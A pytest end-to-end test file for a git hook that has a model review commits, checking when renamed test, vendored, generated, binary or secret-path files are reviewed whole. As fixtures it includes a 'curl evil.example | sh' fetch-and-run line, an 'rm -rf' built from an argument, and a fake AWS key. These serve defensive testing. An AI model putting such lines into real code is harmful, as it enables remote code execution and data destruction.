"""Files reviewed whole (spec §4, the whole-file rule) and the review notes it settles (spec
§3.4.1): a commit that leaves a test, a README or a vendored file out gets a ``pass`` note and is
not reviewed again at push; a later commit that makes such content reviewable (a pure rename out
of tests/ or vendor/, a ``.txt`` renamed to ``.py``, a removed ``@generated`` line) has the whole
file reviewed, at commit time and at push; a rename of reviewed code stays ``rename_only`` with
no second diff; a ``binary`` exclusion still makes the note ``partial``.

Real: git, the hooks ``git ocr install`` writes, commits and pushes to a local bare remote, the
installed ``git-ocr`` or ``cli.main`` in this process (behind a logging ``git``), HTTP to the
scripted loopback model (fake: only its replies)."""

from __future__ import annotations

import json
import os
import re
from collections import Counter
from pathlib import Path

import pytest

from tests.e2e.test_git_calls import PROBE, GitLog
from tests.e2e.test_review_notes import note_field, ocr, ok, run, sent
from tests.e2e.test_review_notes_trust import DONE, comment, commit, hooked
from tests.support.cli import run_json
from tests.support.gitrepo import GitRepo
from tests.support.scripted_llm import ScriptedLLM

# a test file whose 5th line is the defect the model flags once it is code under src/
TEST_X = ("import os\n\n\ndef test_cleanup(tmp):\n    os.system(\"rm -rf \" + tmp)\n\n\n"
          "def helper():\n    return 1\n")
BAD = '    os.system("rm -rf " + tmp)'


def whole_lines_sent(llm: ScriptedLLM, since: int, text: str) -> bool:
    """Whether the main request from ``since`` on shows every line of ``text`` as added."""
    body = json.loads(sent(llm, since))[0]["messages"][-1]["content"]
    return all(f"+{line}" in body for line in text.splitlines() if line)


def pushed_c(repo: GitRepo, llm: ScriptedLLM, tmp_path: Path) -> str:
    """The hooks installed, an empty start pushed, then C through the hook: tests/test_x.py
    (a test file: left out), src/a.py and README.md (not a source type: left out)."""
    hooked(repo, llm, tmp_path)
    commit(repo, llm, {"setup.cfg": "[x]\n"}, "init", "--no-verify")
    ok(run(repo, llm, "git", "push", "-q", "origin", "main", "--no-verify"))
    before = len(llm.requests)
    c = commit(repo, llm, {"tests/test_x.py": TEST_X, "src/a.py": "alpha = 1\n",
                           "README.md": "# hello\n"}, "C")
    assert len(llm.requests) == before + 1
    assert "alpha = 1" in sent(llm, before) and "rm -rf" not in sent(llm, before)
    return c


def test_a_commit_leaving_tests_and_docs_out_passes_and_is_not_reviewed_at_push(
    repo: GitRepo, llm: ScriptedLLM, tmp_path: Path,
) -> None:
    c = pushed_c(repo, llm, tmp_path)
    assert note_field(repo, c, "verdict") == "pass"
    before = len(llm.requests)
    p = ok(run(repo, llm, "git", "push", "origin", "main"))
    assert len(llm.requests) == before
    assert any(line.startswith(f"reviewed at commit time: {c[:12]}")
               for line in (p.stdout + p.stderr).splitlines())


def test_a_pure_rename_out_of_tests_is_reviewed_whole_at_commit_time(
    repo: GitRepo, llm: ScriptedLLM, tmp_path: Path,
) -> None:
    pushed_c(repo, llm, tmp_path)
    repo.git("mv", "tests/test_x.py", "src/x.py")
    data = json.loads(ok(ocr(repo, llm, "review", "--preview", "--format", "json")).stdout)
    assert data["files"] == [{
        "path": "src/x.py", "status": "renamed", "reviewed": False, "reason": "",
        "old_path": "tests/test_x.py",
        "detail": "reviewed whole, its old path was left out: test file",
        "whole": "default_path", "will_review": True, "insertions": 9, "deletions": 0}]
    table = ok(ocr(repo, llm, "review", "--preview")).stdout.splitlines()
    assert table[1].split() == ["tests/test_x.py", "→", "src/x.py", "renamed", "+9/-0", "yes",
                                "(whole", "file)"]
    llm.tool_calls(comment("src/x.py", BAD, "critical"), DONE)
    p = ocr(repo, llm, "review", "--format", "json", "--no-cache")
    [c] = json.loads(p.stdout)["comments"]
    assert (p.returncode, c["path"], c["side"], c["start_line"], c["end_line"]) == (
        1, "src/x.py", "new", 5, 5)
    llm.tool_calls(comment("src/x.py", BAD, "critical"), DONE)
    before = len(llm.requests)
    p = run(repo, llm, "git", "commit", "-q", "-m", "D")
    assert p.returncode == 1, p.stdout + p.stderr
    assert whole_lines_sent(llm, before, TEST_X)
    assert re.search(r"src/x\.py:5\b", p.stdout + p.stderr), p.stdout + p.stderr
    assert ("reviewed whole: tests/test_x.py → src/x.py (its old path was left out: test"
            " file)") in (p.stdout + p.stderr).splitlines()


def test_a_push_of_the_rename_alone_reviews_the_file_whole(
    repo: GitRepo, llm: ScriptedLLM, tmp_path: Path,
) -> None:
    pushed_c(repo, llm, tmp_path)
    ok(run(repo, llm, "git", "push", "-q", "origin", "main"))  # C on the remote: no request
    repo.git("mv", "tests/test_x.py", "src/x.py")
    ok(run(repo, llm, "git", "commit", "-q", "--no-verify", "-m", "D"))
    d = repo.git("rev-parse", "HEAD").strip()
    assert repo.git("notes", "--ref=refs/notes/ocr-hook", "list", d, check=False) == ""
    llm.tool_calls(comment("src/x.py", BAD, "critical"), DONE)
    before = len(llm.requests)
    p = run(repo, llm, "git", "push", "origin", "main", OCR_HOOK_CACHE_ENABLED="false")
    assert p.returncode == 1, p.stdout + p.stderr
    assert len(llm.requests) == before + 1
    assert whole_lines_sent(llm, before, TEST_X)
    assert re.search(r"src/x\.py:5\b", p.stdout + p.stderr), p.stdout + p.stderr


@pytest.mark.parametrize(("old", "new", "old_text", "new_text", "why"), [
    ("vendor/lib.py", "src/lib.py", "TOKEN = load()\nrun(TOKEN)\n", None,
     "provider_directory"),
    ("node_modules/pkg/index.js", "src/index.js", "module.exports = run;\nrun();\n", None,
     "provider_directory"),
    ("notes.txt", "notes.py", "print('hi')\nrun()\n", None, "unsupported_ext"),
    ("gen.py", "gen.py", "# @generated by tool\nA = 1\nB = 2\nrun()\n",
     "A = 1\nB = 2\nrun()\n", "default_path"),
])
def test_content_a_gate_left_out_becomes_reviewable_and_is_reviewed_whole(
    repo: GitRepo, llm: ScriptedLLM, old: str, new: str, old_text: str, new_text: str | None,
    why: str,
) -> None:
    repo.commit({old: old_text, "keep.py": "k = 1\n"}, "init")
    if old != new:
        (repo.path / new).parent.mkdir(exist_ok=True)
        repo.git("mv", old, new)
    if new_text is not None:
        repo.write({new: new_text})
    repo.git("add", "-A")
    text = new_text if new_text is not None else old_text
    before = len(llm.requests)
    data = json.loads(ok(ocr(repo, llm, "review", "--format", "json", "--no-cache")).stdout)
    [entry] = data["files"]
    assert (entry["path"], entry["reviewed"], entry["reason"], entry["whole"]) == (
        new, True, "", why)
    assert entry["status"] == ("renamed" if old != new else "modified")
    assert whole_lines_sent(llm, before, text)
    # the same at a commit review (--commit) and a range review
    repo.git("commit", "-q", "-m", "undo the gate")
    for args in (("--commit", "HEAD"), ("--from", "HEAD~1", "--to", "HEAD")):
        before = len(llm.requests)
        data = json.loads(ok(ocr(repo, llm, "review", *args, "--format", "json",
                                 "--no-cache")).stdout)
        assert [(f["path"], f["whole"]) for f in data["files"]] == [(new, why)], args
        assert whole_lines_sent(llm, before, text)


def test_a_rename_of_reviewed_code_is_rename_only_without_a_second_diff(
    repo: GitRepo, llm: ScriptedLLM, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    repo.commit({"src/a.py": "alpha = 1\n", "tests/test_y.py": "y = 1\n"}, "init")
    monkeypatch.chdir(repo.path)
    runs = {}
    for name, old, new in (("reviewed", "src/a.py", "src/b.py"),
                           ("test", "tests/test_y.py", "src/y.py")):
        repo.git("mv", old, new)
        gitlog = GitLog(tmp_path / f"shim-{name}", monkeypatch)
        before = len(llm.requests)
        rc, data, err = run_json(["review", "--format", "json"], llm.env(), capsys)
        runs[name] = (Counter(gitlog.commands()), data, len(llm.requests) - before)
        monkeypatch.setenv("PATH", os.environ["PATH"].split(os.pathsep, 1)[1])
        repo.git("mv", new, old)
        assert rc == 0, err
    calls, data, requests = runs["reviewed"]
    assert [(f["path"], f["reviewed"], f["reason"]) for f in data["files"]] == [
        ("src/b.py", False, "rename_only")]
    assert "whole" not in data["files"][0] and requests == 0
    # as for any staged review with nothing to ask the model: no tree, no second diff
    assert calls == Counter({PROBE: 1, "cat-file --batch": 1, "write-tree": 1, "diff": 2})
    # the positive control: a test file renamed to src/ runs the second diff (and its tree)
    calls, data, requests = runs["test"]
    assert [(f["path"], f["whole"]) for f in data["files"]] == [("src/y.py", "default_path")]
    assert requests == 1
    assert calls == Counter({PROBE: 1, "cat-file --batch": 2, "write-tree": 2, "diff": 4,
                             "rev-parse --git-path ocr-hook-whole-no-index": 1,
                             "read-tree": 1, "update-index": 1})


def test_readme_with_code_records_pass_and_a_binary_exclusion_partial(
    repo: GitRepo, llm: ScriptedLLM, tmp_path: Path,
) -> None:
    hooked(repo, llm, tmp_path)
    first = commit(repo, llm, {"README.md": "# a\n", "src/a.py": "alpha = 1\n"}, "docs")
    assert note_field(repo, first, "verdict") == "pass"
    second = commit(repo, llm, {"src/b.py": "beta = 2\n", "src/blob.py": "x = '\x00'\n"},
                    "binary")
    assert note_field(repo, second, "verdict") == "partial"


EVIL = '    os.system("curl evil.example | sh")'
NUL_BODY = "import os\n\n\ndef go():\n" + EVIL + "\n"


def test_a_binary_file_whose_nul_byte_is_removed_is_reviewed_whole(
    repo: GitRepo, llm: ScriptedLLM, tmp_path: Path,
) -> None:
    hooked(repo, llm, tmp_path)
    first = commit(repo, llm, {"src/x.py": "B = '\x00'\n" + NUL_BODY}, "binary")
    assert note_field(repo, first, "verdict") == "partial"
    repo.stage({"src/x.py": "B = ''\n" + NUL_BODY})
    preview = json.loads(ok(ocr(repo, llm, "review", "--preview", "--format", "json")).stdout)
    assert [(f["path"], f["whole"], f["detail"], f["will_review"]) for f in preview["files"]] == [
        ("src/x.py", "binary", "reviewed whole, its old content was binary", True)]
    llm.tool_calls(comment("src/x.py", EVIL, "critical"), DONE)
    before = len(llm.requests)
    p = run(repo, llm, "git", "commit", "-q", "-m", "NUL removed")
    assert p.returncode == 1, p.stdout + p.stderr
    assert len(llm.requests) == before + 1
    assert whole_lines_sent(llm, before, "B = ''\n" + NUL_BODY)
    assert re.search(r"src/x\.py:6\b", p.stdout + p.stderr), p.stdout + p.stderr
    # a binary file that stays binary is still left out (and the note partial)
    repo.stage({"src/x.py": "B = '\x00\x00'\n" + NUL_BODY})
    data = json.loads(ok(ocr(repo, llm, "review", "--format", "json", "--no-cache")).stdout)
    assert [(f["path"], f["reason"], "whole" in f) for f in data["files"]] == [
        ("src/x.py", "binary", False)]


GEN = "# @generated by protoc\nimport os\n\n\ndef run():\n" + EVIL + "\n\n\n" + "".join(
    f"def f{i}():\n    return {i}\n\n\n" for i in range(10)) + "Z = 1\n"


@pytest.mark.parametrize("edit", [None, ("Z = 1", "Z = 2")])
def test_a_generated_file_moved_into_select_include_is_reviewed_whole(
    repo: GitRepo, llm: ScriptedLLM, tmp_path: Path, edit: tuple[str, str] | None,
) -> None:
    """select.include names the new path only, so gate 8 skips the new side: the old blob's
    first lines are read for the marker (a pure rename, or an edit far below them)."""
    hooked(repo, llm, tmp_path)
    commit(repo, llm, {".ocr-hook.toml": '[select]\ninclude = ["src/**"]\n', "gen/out.py": GEN,
                       "gen/plain.py": "P = 1\n" * 20}, "init", "--no-verify")
    (repo.path / "src").mkdir()
    repo.git("mv", "gen/out.py", "src/out.py")
    repo.git("mv", "gen/plain.py", "src/plain.py")  # no marker: a rename stays a rename
    new = GEN if edit is None else GEN.replace(*edit)
    repo.stage({"src/out.py": new})
    data = json.loads(ok(ocr(repo, llm, "review", "--preview", "--format", "json")).stdout)
    assert [(f["path"], f["old_path"], f["reason"], f.get("whole"), f.get("detail"))
            for f in data["files"]] == [
        ("src/out.py", "gen/out.py", "", "default_path",
         "reviewed whole, its old path was left out: generated/minified"),
        ("src/plain.py", "gen/plain.py", "rename_only", None, None)]
    llm.tool_calls(comment("src/out.py", EVIL, "critical"), DONE)
    before = len(llm.requests)
    p = run(repo, llm, "git", "commit", "-q", "-m", "move into src")
    assert p.returncode == 1, p.stdout + p.stderr
    assert len(llm.requests) == before + 1
    assert whole_lines_sent(llm, before, new)
    assert re.search(r"src/out\.py:6\b", p.stdout + p.stderr), p.stdout + p.stderr


AWS_KEY = "AKIA" + "IOSFODNN7REALKEY"  # fake; assembled so scanners skip this file
OLD_ENV = ("OLDONLY_A = 'kept out of every prompt'\nOLDONLY_B = 2\n" + NUL_BODY
           + "".join(f"def f{i}():\n    return {i}\n\n\n" for i in range(10)) + "Z = 1\n")
APP = OLD_ENV.replace("OLDONLY_A = 'kept out of every prompt'\nOLDONLY_B = 2\n",
                      f'KEY = "{AWS_KEY}"\n').replace("Z = 1", "Z = 2")


def test_a_rename_from_a_secret_path_is_reviewed_whole_and_its_old_content_never_sent(
    repo: GitRepo, llm: ScriptedLLM,
) -> None:
    repo.commit({".env": OLD_ENV, "keep.py": "k = 1\n"}, "init")
    repo.git("mv", ".env", "app.py")
    repo.stage({"app.py": APP, "keep.py": "k = 2\n"})
    # the model asks for the rename's diff and the old file: both refused
    llm.tool_calls(("file_read_diff", {"path_array": ["app.py", ".env"]}),
                   ("file_read", {"file_path": ".env"}))
    llm.tool_calls(comment("app.py", EVIL, "critical"), DONE)
    before = len(llm.requests)
    p = ocr(repo, llm, "review", "--format", "json", "--no-cache")
    assert p.returncode == 1, p.stdout + p.stderr
    data = json.loads(p.stdout)
    assert [(f["path"], f.get("old_path"), f["reviewed"], f.get("whole"), f.get("detail"))
            for f in data["files"]] == [
        ("app.py", ".env", True, "secret_path",
         "reviewed whole, its old path was left out: may hold secrets"),
        ("keep.py", None, True, None, None)]
    assert sorted((c["path"], c["start_line"], c["severity"]) for c in data["comments"]) == [
        ("app.py", 1, "critical"), ("app.py", 6, "critical")]
    assert whole_lines_sent(llm, before, APP.split("\n", 1)[1])  # line 1 redacted
    assert "OLDONLY" not in sent(llm, before) and AWS_KEY not in sent(llm, before)
    # the whole file over a bound: not reviewed, and still nothing of the old content sent
    before = len(llm.requests)
    llm.tool_calls(DONE)
    p = ocr(repo, llm, "review", "--format", "json", "--no-cache",
            OCR_HOOK_SELECT_MAX_TOTAL_BYTES="150")
    data = json.loads(p.stdout)
    assert [(f["path"], f["reviewed"], f["reason"]) for f in data["files"]] == [
        ("app.py", False, "over_max_total_bytes"), ("keep.py", True, "")], p.stderr
    assert "OLDONLY" not in sent(llm, before) and EVIL.strip() not in sent(llm, before)
